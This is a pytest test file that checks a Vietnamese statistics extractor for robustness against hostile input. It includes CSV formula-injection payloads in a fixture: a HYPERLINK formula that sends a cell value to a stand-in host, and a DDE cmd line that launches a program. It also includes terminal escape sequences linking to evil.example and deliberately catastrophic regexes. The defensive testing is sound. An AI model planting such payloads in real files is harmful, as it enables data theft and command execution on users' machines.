"""Hostile input: nothing crashes, nothing is lost, nothing is injected.

Input the reader cannot take gives one line on stderr naming the file and
exit code 1; anything else gives figures: the same figures whatever invisible
characters, odd spaces or garbage stand around them, in time that grows about
linearly with the input. Pattern folders from a user are refused with one line
naming the file and the entry.

Known failures of the extractor are strict xfails whose reason reads
``input → expected → got``: a fix turns them into XPASS, which fails the run
until the mark goes.
"""
from __future__ import annotations

import csv
import functools
import gc
import io
import json
import math
import os
import signal
import subprocess
import sys
import time
import unicodedata
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from pydantic import ValidationError

from dtextract import output, reader
from dtextract.models import Change, Document, Figure
from dtextract.output import CSV_COLUMNS, FORMULA_TRIGGERS
from dtextract.pipeline import extract

from cli_helpers import assert_one_line_error, run

PUBLISHED = "2023-07-15"
SAMPLES = sorted((Path(__file__).resolve().parents[1] / "samples").glob("*.txt"))

BASE = ("Năm 2023, tỉnh tiếp nhận 194.360 hồ sơ, đạt 55,32%, tăng 10,01% so với năm 2022. "
        "Toàn tỉnh có 1.200 doanh nghiệp công nghệ số.\nTỷ lệ hộ dùng internet đạt 87,5%.")


def doc_of(text: str) -> Document:
    """``extract`` with every record's span checked against the NFC text."""
    doc = extract(text, published=PUBLISHED)
    nfc = reader.normalize(text)
    for f in doc.figures:
        assert nfc[f.start:f.end] == f.text
        assert f.text in f.sentence
    return doc


def key(doc: Document) -> list[tuple]:
    """What a figure says, without where it stands."""
    return [(f.kind, f.value, f.value_max, f.unit, f.approx, f.total, f.percent,
             f.change.value if f.change else None) for f in doc.figures]


class TookTooLong(BaseException):  # not Exception: nothing in the extractor may swallow it
    pass


@contextmanager
def within(seconds: float) -> Iterator[None]:
    """Fail with :class:`TookTooLong` (not hang) when the block uses more than ``seconds`` of CPU time.

    CPU time, not wall time: other processes on a loaded machine do not count.
    """
    if not hasattr(signal, "setitimer"):  # no interval timers (Windows): run without a limit
        yield
        return

    def expire(signum, frame):  # noqa: ANN001 - a signal handler
        raise TookTooLong(f"still running after {seconds} s of CPU time")

    previous = signal.signal(signal.SIGPROF, expire)
    signal.setitimer(signal.ITIMER_PROF, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.signal(signal.SIGPROF, previous)


def cpu_seconds(func, repeat: int) -> float:  # noqa: ANN001 - any callable
    """The least CPU time of ``repeat`` calls: robust on a loaded machine (other processes do not count)."""
    best = math.inf
    for _ in range(repeat):
        gc.collect()
        start = time.process_time()
        func()
        best = min(best, time.process_time() - start)
    return best


# -- characters: figures survive what a reader cannot see -----------------------------------

@functools.cache
def base_key() -> list[tuple]:
    """What BASE says: 194.360 hồ sơ (with its share and change), 1.200 doanh nghiệp, 87,5%."""
    got = key(doc_of(BASE))
    assert [k[:4] for k in got] == [("count", 194360, None, "hồ sơ"), ("count", 1200, None, "doanh nghiệp"),
                                    ("percent", 87.5, None, "%")]
    return got


def test_nfd_input_gives_the_same_figures_at_nfc_offsets() -> None:
    nfd = unicodedata.normalize("NFD", BASE)
    doc = doc_of(nfd)
    assert key(doc) == base_key()
    assert [(f.start, f.end) for f in doc.figures] == [(f.start, f.end) for f in doc_of(BASE).figures]


def test_mixed_normalisation() -> None:
    half = len(BASE) // 2
    mixed = unicodedata.normalize("NFD", BASE[:half]) + BASE[half:]
    assert key(doc_of(mixed)) == base_key()


def test_non_canonical_mark_order() -> None:
    """``ệ`` written e + dot below + circumflex and e + circumflex + dot below: NFC settles both."""
    for marks in ("\u0323\u0302", "\u0302\u0323"):
        text = BASE.replace("nghiệp", "nghie" + marks + "p")
        assert key(doc_of(text)) == base_key()


#: Characters a reader does not see, or sees as a space. Each goes between sentences, then into every word gap.
INVISIBLE = {
    "ZERO WIDTH SPACE": "\u200b", "ZERO WIDTH NON-JOINER": "\u200c", "ZERO WIDTH JOINER": "\u200d",
    "WORD JOINER": "\u2060", "BYTE ORDER MARK": "\ufeff", "SOFT HYPHEN": "\u00ad",
    "LEFT-TO-RIGHT MARK": "\u200e", "RIGHT-TO-LEFT OVERRIDE": "\u202e", "FIRST STRONG ISOLATE": "\u2068",
    "BELL": "\x07", "ESCAPE": "\x1b", "SUBSTITUTE": "\x1a", "DELETE": "\x7f", "NUL": "\x00",
    "FORM FEED": "\x0c", "VERTICAL TAB": "\x0b",
}
SPACES = {
    "NO-BREAK SPACE": "\u00a0", "NARROW NO-BREAK SPACE": "\u202f", "THIN SPACE": "\u2009",
    "EN SPACE": "\u2002", "IDEOGRAPHIC SPACE": "\u3000", "TAB": "\t", "TWO SPACES": "  ",
}

@pytest.mark.parametrize("name", INVISIBLE)
def test_invisible_characters_between_sentences(name: str) -> None:
    c = INVISIBLE[name]
    text = c + BASE.replace(". ", ". " + c).replace("\n", "\n" + c + c) + c
    assert key(doc_of(text)) == base_key()


@pytest.mark.parametrize("name", INVISIBLE)
def test_invisible_characters_in_every_word_gap(name: str) -> None:
    """The scan view reads them as spaces (soft hyphens, bidi marks and controls once lost the figure), and a
    unit's name collapses them ('hồ \\u200bsơ' is 'hồ sơ'); the figure's text keeps them."""
    text = BASE.replace(" ", " " + INVISIBLE[name])
    doc = doc_of(text)
    assert key(doc) == base_key()
    assert doc.figures[0].text == f"194.360 {INVISIBLE[name]}hồ {INVISIBLE[name]}sơ"


@pytest.mark.parametrize("name", SPACES)
def test_odd_spaces_instead_of_spaces(name: str) -> None:
    """A unit's name has plain spaces between its words, whatever spaces the text has."""
    text = BASE.replace(" ", SPACES[name])
    assert key(doc_of(text)) == base_key()


@pytest.mark.parametrize("name", SPACES)
def test_odd_spaces_give_the_same_values(name: str) -> None:
    """Whatever the unit's spelling, no figure is lost or misread."""
    text = BASE.replace(" ", SPACES[name])
    got = [(k[0], k[1], " ".join(k[3].split())) + k[4:] for k in key(doc_of(text))]
    assert got == [(k[0], k[1], k[3]) + k[4:] for k in base_key()]


def test_full_width_digits_and_signs() -> None:
    wide = str.maketrans("0123456789%,.", "０１２３４５６７８９％，．")
    assert key(doc_of(BASE.translate(wide))) == base_key()


@pytest.mark.parametrize("number", ["194\u200b.360", "194\u200b.\u00ad360", "19\u00ad4.\u200e360",
                                    "194.\u2060\u2060360", "\uff11\u200b94.360"])
def test_invisible_characters_inside_a_number(number: str) -> None:
    """Read as if they were not there (the scan view marks them as a gap in a number, not a space)."""
    doc = doc_of(BASE.replace("194.360", number))
    assert key(doc) == base_key()
    assert doc.figures[0].text == number + " hồ sơ"


def test_a_space_still_splits_a_number() -> None:
    """Only a gap of invisible characters alone joins digits: with a space in it, they are two numbers."""
    assert [(f.value, f.text) for f in doc_of("Có 194 \u200b360 hồ sơ.").figures] == [(360, "360 hồ sơ")]


DASHES = ["-", "\u2010", "\u2011", "\u2012", "\u2013", "\u2014", "\u2015", "\u2212", "\ufe58", "\ufe63", "\uff0d"]


@pytest.mark.parametrize("dash", DASHES, ids=[f"U+{ord(d):04X}" for d in DASHES])
def test_every_dash(dash: str) -> None:
    text = (f"Giai đoạn 2021{dash}2025, tỷ lệ hộ nghèo giảm 2{dash}3% mỗi năm. "
            f"Năm 2022 {dash} 2023, tỉnh có 10 {dash} 15 xã đạt chuẩn.\n{dash} Toàn tỉnh có 1.200 doanh nghiệp.")
    got = [(f.kind, f.value, f.value_max, f.unit) for f in doc_of(text).figures]
    assert got == [("percent", 2, 3, "%"), ("count", 10, 15, "xã"), ("count", 1200, None, "doanh nghiệp")]


def test_no_figure_value_is_infinite() -> None:
    doc = doc_of("Doanh thu đạt 5 " + "tỷ " * 40 + "đồng. Có hàng " + "nghìn " * 110 + "người.")
    assert all(math.isfinite(f.value) for f in doc.figures)
    buf = io.StringIO()
    output.write_json(doc, buf)
    json.loads(buf.getvalue(), parse_constant=lambda token: pytest.fail(f"not JSON: {token}"))


@pytest.mark.parametrize("field", ["value", "value_max", "total", "percent"])
@pytest.mark.parametrize("bad", [math.inf, -math.inf, math.nan])
def test_a_figure_refuses_a_value_json_cannot_hold(field: str, bad: float) -> None:
    """The record is the last guard: whatever a rule computes, no Infinity or NaN reaches the output."""
    record = dict(text="5 xã", start=0, end=4, sentence="5 xã", kind="count", value=5.0, unit="xã")
    Figure(**record)
    with pytest.raises(ValidationError, match="finite"):
        Figure(**{**record, field: bad})
    with pytest.raises(ValidationError, match="finite"):
        Change(direction="increase", value=bad, unit="%")


def test_numbers_too_long_for_a_statistic_are_not_read() -> None:
    doc = doc_of("Mã số 9" + "9" * 5000 + " hồ sơ; mã 1" + ".000" * 2000 + " xã.")
    assert all(math.isfinite(f.value) for f in doc.figures)


# -- size and shape ----------------------------------------------------------------------------

def test_empty_and_blank_files_have_no_figures(tmp_path: Path) -> None:
    for name, data in [("rong.txt", b""), ("trang.txt", b" \n\t\r\n \n"), ("bom.txt", b"\xef\xbb\xbf"),
                       ("bom16.txt", b"\xff\xfe")]:
        path = tmp_path / name
        path.write_bytes(data)
        result = run("parse", str(path), "-f", "json")
        assert result.exit_code == 0, result.output
        assert json.loads(result.stdout)["figures"] == []


def test_five_megabytes_on_one_line(tmp_path: Path) -> None:
    """A real article with its line breaks lost, in 5 MB of prose: read, and its figures found as in the article alone."""
    article = SAMPLES[3].read_text(encoding="utf-8").replace("\n", " ")
    filler = ("Tỉnh đã triển khai nhiều giải pháp chuyển đổi số trên địa bàn, góp phần nâng cao chất lượng "
              "phục vụ người dân. ")
    half = filler * (2_500_000 // len(filler.encode("utf-8")))
    path = tmp_path / "mot-dong.txt"
    path.write_text(half + article + half, encoding="utf-8")
    assert path.stat().st_size > 5_000_000
    decoded = reader.read_path(path)  # (its time is the linear-growth tests' business below, not asserted here)
    assert "\n" not in decoded.text
    doc = extract(decoded.text, published=PUBLISHED)
    alone = extract(article, published=PUBLISHED)
    shift = len(half)
    assert [(f.start - shift, f.end - shift, f.value, f.unit) for f in doc.figures] == \
           [(f.start, f.end, f.value, f.unit) for f in alone.figures]
    assert alone.figures


REPEATED = ["1.1.1.1", ",,,,", "%%%%", "tăng tăng tăng"]


@pytest.mark.parametrize("sep", ["", " "], ids=["joined", "spaced"])
@pytest.mark.parametrize("unit", REPEATED)
def test_a_hundred_thousand_repetitions(unit: str, sep: str) -> None:
    """No figure, and no hang. ('1.1.1.1 ' * 10**5 took 267 s before 57d7901: every number searched its whole clause.)"""
    text = sep.join([unit] * 100_000)
    with within(20):
        doc = doc_of(text)
    assert doc.figures == []


#: A short article dense with figures and periods, as a report's summary is.
DENSE = ("Năm 2023, tỉnh tiếp nhận 194.360 hồ sơ, đạt 55,32%, tăng 10,01% so với năm 2022. "
         "Trong sáu tháng đầu năm 2023, toàn tỉnh có 1.200 doanh nghiệp công nghệ số.\n")


def test_time_grows_about_linearly() -> None:
    doc_of(DENSE)  # rules compiled, underthesea loaded

    def article(n: int) -> str:
        return (DENSE * (n // len(DENSE) + 1))[:n]

    small, large = article(5_000), article(40_000)
    ratio = cpu_seconds(lambda: extract(large, published=PUBLISHED), 2) / \
        cpu_seconds(lambda: extract(small, published=PUBLISHED), 3)
    assert ratio < 16, f"8x the input took {ratio:.1f}x the time"


def test_time_grows_about_linearly_with_the_figures_of_one_sentence() -> None:
    """A list that never ends its sentence, as a table flattened to one line is (about 40x for 8x before 57d7901)."""
    doc_of("5 hồ sơ, 7 xã.")
    small, large = "5 hồ sơ, " * 250, "5 hồ sơ, " * 2000
    ratio = cpu_seconds(lambda: extract(large, published=PUBLISHED), 1) / \
        cpu_seconds(lambda: extract(small, published=PUBLISHED), 3)
    assert ratio < 16, f"8x the input took {ratio:.1f}x the time"


def test_time_grows_about_linearly_on_one_line() -> None:
    """A real article repeated with its line breaks lost: one paragraph, long sentences (before 57d7901 every
    figure rescanned the paragraph, and a 50 MB line did not finish in 30 minutes)."""
    line = SAMPLES[3].read_text(encoding="utf-8").replace("\n", " ")
    doc_of(line)

    def article(n: int) -> str:
        return (line * (n // len(line) + 1))[:n]

    small, large = article(50_000), article(400_000)
    ratio = cpu_seconds(lambda: extract(large, published=PUBLISHED), 1) / \
        cpu_seconds(lambda: extract(small, published=PUBLISHED), 3)
    assert ratio < 16, f"8x the input took {ratio:.1f}x the time"


def test_time_grows_about_linearly_for_sparse_figures() -> None:
    """Prose with a figure now and then: the cost of reading text itself is linear."""
    prose = ("Tỉnh đã triển khai nhiều giải pháp chuyển đổi số trên địa bàn, góp phần nâng cao chất lượng "
             "phục vụ người dân, trong đó có 12 xã điểm.\n")
    doc_of(prose)

    def article(n: int) -> str:
        return (prose * (n // len(prose) + 1))[:n]

    small, large = article(20_000), article(160_000)
    ratio = cpu_seconds(lambda: extract(large, published=PUBLISHED), 2) / \
        cpu_seconds(lambda: extract(small, published=PUBLISHED), 3)
    assert ratio < 16, f"8x the input took {ratio:.1f}x the time"


def test_a_folder_of_ten_thousand_tiny_files(tmp_path: Path) -> None:
    """Every one of 10 000 small files is read, in order, and counted; none is lost or repeated."""
    from dtextract import batch

    folder = tmp_path / "nho"
    folder.mkdir()
    for i in range(10_000):
        # (values from 3001: a bare 1900-2099 reads as a year, which is another matter)
        (folder / f"{i:05d}.txt").write_text(f"Xã số {i} có {i + 3001} hộ dân." if i % 10 else "", encoding="utf-8")
    out = tmp_path / "ra.jsonl"
    summary = batch.run(batch.find_files([folder]), out, jobs=2)
    assert (summary.files, summary.ok, summary.empty, summary.error) == (10_000, 9_000, 1_000, 0)
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["value"] for r in rows] == [i + 3001 for i in range(10_000) if i % 10]


# -- paths the CLI cannot read ---------------------------------------------------------------

def _unreadable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    """A file that open() refuses, as it would for a user without permission (root reads anything, so simulate)."""
    path = tmp_path / "bi-mat.txt"
    path.write_text(BASE, encoding="utf-8")
    real_open = open

    def deny(file, *args, **kwargs):  # noqa: ANN001, ANN002, ANN003 - mirrors open()
        if isinstance(file, (str, os.PathLike)) and Path(file) == path:
            raise PermissionError(13, "Permission denied", str(file))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr("builtins.open", deny)
    return path, "permission denied"


def _directory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    return tmp_path, "is a directory"


def _broken_link(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    link = tmp_path / "link.txt"
    link.symlink_to(tmp_path / "da-xoa.txt")
    return link, "broken symbolic link"


def _link_loop(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.symlink_to(b)
    b.symlink_to(a)
    return a, "symbolic links"


def _device(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    if not Path("/dev/null").exists():
        pytest.skip("no /dev/null here")
    return Path("/dev/null"), "not a regular file"


def _binary(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    path = tmp_path / "anh.txt"
    path.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    return path, "binary"


def _missing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    return tmp_path / "khong-co.txt", "no such file"


@pytest.mark.parametrize("make", [_unreadable, _directory, _broken_link, _link_loop, _device, _binary, _missing],
                         ids=lambda f: f.__name__.strip("_"))
def test_unreadable_paths_give_one_line(make, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # noqa: ANN001
    path, problem = make(tmp_path, monkeypatch)
    for fmt in ("json", "csv", "table"):
        assert_one_line_error(run("parse", str(path), "-f", fmt), str(path), problem)


def test_legacy_font_text_is_converted_and_reported_on_stderr(tmp_path: Path) -> None:
    path = tmp_path / "vntime.txt"
    # "Tỉnh tiếp nhận 194.360 hồ sơ, đạt 55,32%." typed in a .VnTime font, saved as UTF-8
    path.write_text("TØnh tiÕp nhËn 194.360 hå s¬, ®¹t 55,32%.\n", encoding="utf-8")
    result = run("parse", str(path), "-f", "json")
    assert result.exit_code == 0, result.output
    (warning,) = result.stderr.splitlines()
    assert warning.startswith(f"dtextract: warning: {path}: looks like TCVN3 (ABC) text")
    figure, = json.loads(result.stdout)["figures"]
    assert (figure["value"], figure["unit"], figure["percent"]) == (194360, "hồ sơ", 55.32)


# -- garbage in the middle of a real article --------------------------------------------------

GARBAGE = {
    "control and Latin-1 characters": "".join(chr(c) for c in range(1, 0x250) if chr(c) not in "\n\r"),
    "punctuation runs": "%%%%,,,,1.1.1.1;;;;////----" * 200,
    "a repeated verb": "tăng " * 500,
    "emoji, Arabic, Chinese": "👩‍👩‍👧‍👦 🇻🇳 مرحبا بالعالم 中华人民共和国 ｶﾀｶﾅ " * 50,
    "markup and script": "<script>var x = 1e9; alert('=1+2')</script><div style='a:b'>&nbsp;&amp;</div>" * 20,
    "legacy font codes": "Céng hoµ x· héi chñ nghÜa ViÖt Nam " * 40,
    "one long digit run": "9" * 5000,
    "combining marks": "a" + "\u0301" * 2000,
    "bidi and zero-width": "\u202e\u200b\u2066\u200d\ufeff" * 400,
    "whitespace": " \t\u00a0\u3000" * 2000,
    "dashes and bullets": "–—-•·*+" * 300,
    "one long word": "Xin" * 3000,  # longer ones: see test_a_very_long_word_does_not_switch_rules_off
}


def _insert_in_the_middle(text: str, garbage: str) -> tuple[str, int, int]:
    """``text`` with ``garbage`` as a paragraph of its own at the line break nearest the middle."""
    at = text.index("\n", len(text) // 2) + 1
    piece = reader.normalize(garbage) + "\n"  # offsets count characters of the NFC text
    return text[:at] + piece + text[at:], at, len(piece)


@functools.cache
def _sample_figures(sample: Path) -> tuple[str, list[tuple]]:
    article = reader.read_path(sample).text
    return article, [(f.start, f.end, f.text, f.kind, f.value, f.value_max, f.unit) for f in doc_of(article).figures]


@pytest.mark.parametrize("sample", SAMPLES, ids=lambda p: p.name[:3])
@pytest.mark.parametrize("kind", GARBAGE)
def test_garbage_in_the_middle_changes_nothing_around_it(sample: Path, kind: str) -> None:
    article, before = _sample_figures(sample)
    spoiled, at, length = _insert_in_the_middle(article, GARBAGE[kind])
    after = []
    for f in doc_of(spoiled).figures:
        if f.end <= at:
            after.append((f.start, f.end, f.text, f.kind, f.value, f.value_max, f.unit))
        elif f.start >= at + length:
            after.append((f.start - length, f.end - length, f.text, f.kind, f.value, f.value_max, f.unit))
    assert after == before


def test_a_very_long_word_does_not_switch_rules_off() -> None:
    tail = "Văn bản số KH-15 triển khai tại 5 xã. Mã hồ sơ A12 gồm 3 người."
    assert [(f.text, f.value) for f in doc_of(tail).figures] == [("5 xã", 5), ("3 người", 3)]
    spoiled = "Xin" * 20000 + "\n" + tail
    assert [(f.text, f.value) for f in doc_of(spoiled).figures] == [("5 xã", 5), ("3 người", 3)]


# -- nothing injected ------------------------------------------------------------------------

INJECTION = "\n".join([
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm") tỉnh tiếp nhận 194.360 hồ sơ, đạt 55,32%.',
    "- Toàn tỉnh có 1.200 doanh nghiệp.",
    "+ Có 35 xã đạt chuẩn nông thôn mới.",
    "@SUM(1+1) có 12 huyện.",
    "－ Có 7 trường đạt chuẩn.",
    "＝1+1 có 9 bệnh viện.",
    "=cmd|' /C calc'!A0 trên địa bàn có 5 =cmd|' /C calc'!A0 điểm cầu.",
    "Tăng 12 +người dân.",
]) + "\n"


def test_csv_injection_is_neutralised_through_the_cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    name = '=HYPERLINK("x").txt'
    Path(name).write_text(INJECTION, encoding="utf-8")
    result = run("parse", name, "--format", "csv")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) >= 5
    numeric = {"start", "end", "value", "value_max", "total", "percent", "change_value", "target_value"}
    for row in rows:
        assert list(row) == list(CSV_COLUMNS)
        assert row["source"] == "'" + name
        for column, cell in row.items():
            if column in numeric:
                if cell:
                    float(cell)  # numbers stay numbers
            else:
                assert not cell.startswith(FORMULA_TRIGGERS) or cell == "-", (column, cell)
    sentences = {row["sentence"] for row in rows}
    assert "'- Toàn tỉnh có 1.200 doanh nghiệp." in sentences
    assert any(s.startswith("'=HYPERLINK(") for s in sentences)


def test_excel_csv_is_neutralised_too(tmp_path: Path) -> None:
    path = tmp_path / "a.txt"
    path.write_text(INJECTION, encoding="utf-8")
    out = tmp_path / "a.csv"
    result = run("parse", str(path), "--excel", "-o", str(out))
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    assert text.startswith("\ufeff")
    for row in csv.DictReader(io.StringIO(text[1:], newline="")):
        assert not row["sentence"].startswith(FORMULA_TRIGGERS)


def test_terminal_escapes_in_an_article_do_not_reach_the_terminal(tmp_path: Path) -> None:
    path = tmp_path / "ansi.txt"
    escapes = "\x1b]8;;http://evil.example\x1b\\Tỉnh\x1b[2J tiếp nhận 194.360 hồ sơ [bold red]đỏ[/].\n"
    path.write_text(escapes + (BASE + "\n") * 3, encoding="utf-8")  # a few escapes in an article, not a binary
    result = run("parse", str(path), "-f", "table")
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.stdout
    flat = "".join(result.stdout.split())  # (the sentence column may wrap anywhere)
    assert "194" in result.stdout and "[boldred]đỏ[/]" in flat  # shown, not run as markup
    for fmt in ("json", "jsonl"):
        result = run("parse", str(path), "-f", fmt)
        assert "\x1b" not in result.stdout  # JSON escapes control characters


# -- pattern folders from a user ------------------------------------------------------------------

ARTICLE = "Tỉnh tiếp nhận khoảng 194.360 hồ sơ, đạt 55,32%.\n"

#: (stem, file text, what the one line must say)
BAD_PATTERNS = {
    "malformed TOML": ("units", "[broken\npattern = ", ["units.toml", "not valid TOML"]),
    "duplicate entry": ("units", "[a]\nwords = ['x']\n[a]\nwords = ['y']\n", ["units.toml", "not valid TOML"]),
    "entry not a table": ("units", "foo = 3\n", ["units.toml", "'foo'", "table"]),
    "entry without examples": ("units", "[bare]\nkind = 'count'\nwords = ['xã']\n", ["units.toml", "[bare]",
                                                                                    "examples"]),
    "not UTF-8": ("units", "[x]\nwords = ['\udcff']\n", ["units.toml", "UTF-8"]),
    "regex does not compile": ("nonfigures", "[broken]\npattern = '(unclosed'\nexamples = ['x']\n",
                               ["nonfigures.toml", "[broken]", "does not compile"]),
    "(a+)+$ in nonfigures": ("nonfigures", "[slow]\npattern = '(a+)+$'\nexamples = ['x']\n",
                             ["nonfigures.toml", "[slow]", "backtracks catastrophically"]),
    "(\\w+\\s?)*$ in cues": ("cues", "[slow]\nattribute = 'total'\npattern = '(\\w+\\s?)*$'\nexamples = ['5/6 xã']\n",
                             ["cues.toml", "[slow]", "backtracks catastrophically"]),
    "(\\w+\\s?)*$ in locality": ("locality", "[slow]\npattern = '(\\w+\\s?)*$'\nexamples = ['x']\n",
                                 ["locality.toml", "[slow]", "backtracks catastrophically"]),
    "regex does not compile in qualifiers": ("qualifiers",
                                             "[bad]\napprox = 'about'\npattern = '(unclosed'\nexamples = ['x']\n",
                                             ["qualifiers.toml", "[bad]", "does not compile"]),
    # `parse` once took these, that `patterns check` refused: it probed a qualifier only inside the
    # wrapper that anchors it, and never read a file that no module reads (a typo: qualifier.toml)
    "(a+)+$ in qualifiers": ("qualifiers", "[slow]\napprox = 'about'\npattern = '(a+)+$'\nexamples = ['x']\n",
                             ["qualifiers.toml", "[slow]", "backtracks catastrophically"]),
    "(\\w+\\s?)*$ in qualifiers": ("qualifiers",
                                   "[slow]\napprox = 'about'\npattern = '(\\w+\\s?)*$'\nexamples = ['x']\n",
                                   ["qualifiers.toml", "[slow]", "backtracks catastrophically"]),
    "regex does not compile in an unknown file": ("qualifier", "[bad]\npattern = '(unclosed'\nexamples = ['x']\n",
                                                  ["qualifier.toml", "[bad]", "does not compile"]),
    # and `patterns check` took these, that `parse` refused
    "pattern not a string": ("nonfigures", "[num]\npattern = 5\nexamples = ['x']\n",
                             ["nonfigures.toml", "[num]", "must be a regex string"]),
    "patterns not a list of strings": ("qualifiers",
                                       "[num]\napprox = 'about'\npatterns = ['a', 5]\nexamples = ['x']\n",
                                       ["qualifiers.toml", "[num]", "must be a list of regex strings"]),
    # and neither could compile this one (see test_a_regex_too_big_to_compile_is_refused)
    "regex too big to compile": ("cues", "[big]\npattern = '(?:(?:x{100}){100}){100}'\nexamples = ['x']\n",
                                 ["cues.toml", "[big]", "too big to compile"]),
}


def _folder(tmp_path: Path, stem: str, content: str) -> Path:
    folder = tmp_path / "my-rules"
    folder.mkdir()
    path = folder / f"{stem}.toml"
    if "\udcff" in content:  # a byte that is not UTF-8
        path.write_bytes(content.encode("utf-8", errors="surrogateescape"))
    else:
        path.write_text(content, encoding="utf-8")
    return folder


@pytest.fixture
def article(tmp_path: Path) -> Path:
    path = tmp_path / "bai-viet.txt"
    path.write_text(ARTICLE, encoding="utf-8")
    return path


@pytest.mark.parametrize("case", BAD_PATTERNS)
def test_parse_refuses_a_bad_pattern_folder(case: str, tmp_path: Path, article: Path) -> None:
    stem, content, needles = BAD_PATTERNS[case]
    folder = _folder(tmp_path, stem, content)
    with within(30):
        result = run("parse", str(article), "--patterns", str(folder), "-f", "json")
    assert_one_line_error(result, str(folder), *needles)


@pytest.mark.parametrize("case", BAD_PATTERNS)
def test_patterns_check_refuses_a_bad_pattern_folder(case: str, tmp_path: Path) -> None:
    stem, content, needles = BAD_PATTERNS[case]
    folder = _folder(tmp_path, stem, content)
    with within(30):
        result = run("patterns", "check", "--no-examples", str(folder))
    assert_one_line_error(result, str(folder), *needles)


def test_patterns_check_refuses_a_pattern_that_is_not_a_string(tmp_path: Path) -> None:
    folder = _folder(tmp_path, "nonfigures", "[num]\npattern = 5\nexamples = ['x']\n")
    assert_one_line_error(run("patterns", "check", "--no-examples", str(folder)), "nonfigures.toml", "[num]")


def _limited_run(args: list[str]) -> subprocess.CompletedProcess[str]:
    """The CLI in a child process that may use at most 2 GB of memory and 120 s."""
    resource = pytest.importorskip("resource")  # POSIX only

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (2 << 30, 2 << 30))

    return subprocess.run([sys.executable, "-m", "dtextract", *args], capture_output=True, text=True,
                          encoding="utf-8", timeout=120, preexec_fn=limit)


@pytest.mark.parametrize("command", ["parse", "check"])
def test_a_regex_too_big_to_compile_is_refused(command: str, tmp_path: Path, article: Path) -> None:
    """Refused before it is compiled (patterns.regex_size): compiling it would need gigabytes, and the
    process was killed by the system (or, under a memory limit, said 'internal error: MemoryError')."""
    folder = _folder(tmp_path, "nonfigures", "[big]\npattern = '(?:(?:a{1000}){1000}){1000}'\nexamples = ['x']\n")
    args = ["parse", str(article), "--patterns", str(folder)] if command == "parse" else \
        ["patterns", "check", "--no-examples", str(folder)]
    proc = _limited_run(args)
    assert proc.returncode == 1
    (line,) = proc.stderr.splitlines()
    assert "nonfigures.toml" in line and "[big]" in line and "too big" in line


# -- found by the property tests and the fuzzer ------------------------------------------------


@pytest.mark.parametrize("text", ["5 Y\x1b", "Có 12 A\x07", "Toàn tỉnh có 1.200 doanh nghiệp và 5 Y\x1b"])
def test_a_control_character_after_an_unknown_unit_at_the_end(text: str) -> None:
    doc_of(text)


def test_a_control_character_after_an_unknown_unit_through_the_cli(tmp_path: Path) -> None:
    path = tmp_path / "bai-viet.txt"
    path.write_text(BASE + " Toàn tỉnh có 1.200 doanh nghiệp và 5 Y\x1b", encoding="utf-8")
    result = run("parse", str(path), "-f", "json")
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("text", [
    "Doanh thu đạt 55\nTriệu Thị Hoa cho biết thêm.",   # a paragraph that starts with the surname Triệu
    "Tỉnh có 5\ntriệu người dân.",
    "MỘT\nTRĂM A",
    "Có hai\nmươi hộ.",
])
def test_a_number_does_not_run_across_a_line_break(text: str) -> None:
    """Multiplier and number words join a numeral only on its own line (once: 'Doanh thu đạt 55\\nTriệu Thị Hoa'
    gave 55 000 000 'Thị Hoa', text '55\\nTriệu Thị Hoa', standing in no sentence)."""
    for f in doc_of(text).figures:
        assert "\n" not in f.text and f.text in f.sentence, f


@pytest.mark.parametrize("text", ["Có 5\n- 7 xã.", "Có 5\nđến 7 xã."])
def test_a_range_does_not_run_across_a_line_break(text: str) -> None:
    for f in doc_of(text).figures:
        assert "\n" not in f.text and f.text in f.sentence, f
